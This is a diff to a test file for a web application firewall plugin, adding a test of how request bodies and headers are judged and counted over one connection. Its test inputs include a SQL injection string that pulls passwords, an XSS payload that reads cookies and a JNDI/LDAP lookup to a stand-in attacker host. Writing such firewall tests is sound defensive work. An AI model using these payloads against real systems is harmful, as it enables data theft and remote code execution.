@@ -278,7 +278,33 @@ describe('firewallPlugin', () => {
       ];
       expect(ports.size).toBe(1);
       expect(statuses).toEqual([200, 403, 200, 403, 403, 403, 200, 403, 200]);
-      expect(server.firewall.counters).toMatchObject({ inspected: 9, blocked: 5 });
+      // Judged in full: the first, the changed head, the one after it, and the first text/plain one.
+      expect(server.firewall.counters).toMatchObject({ inspected: 9, blocked: 5, remembered: 5 });
+    } finally {
+      close();
+    }
+  });
+
+  it('judges bodies of any length against one judged head, and only a Content-Length may differ', async () => {
+    const { server, send, ports, close } = await overOneConnection();
+    const json = { 'content-type': 'application/json' };
+    const post = (note: string, headers: Record<string, string> = {}) =>
+      send('POST', '/api/v1/orders', { ...json, ...headers }, JSON.stringify({ symbol: 'AAPL', note }));
+    try {
+      const statuses = [
+        await post('buy'),
+        await post("1' union select password from users--"),
+        await post('a longer note about buying the dip'),
+        await post('<script>alert(document.cookie)</script>'),
+        await post('sell'),
+        // Same length as 'sell', another header value: judged in full.
+        await post('hold', { 'x-api-version': '${jndi:ldap://evil.example/a}' }),
+        await post('hold', { 'x-api-version': '2' }),
+        await post('a different length', { 'x-api-version': '2' }),
+      ];
+      expect(ports.size).toBe(1);
+      expect(statuses).toEqual([200, 403, 200, 403, 200, 403, 200, 200]);
+      expect(server.firewall.counters).toMatchObject({ inspected: 8, blocked: 3, remembered: 5 });
     } finally {
       close();
     }
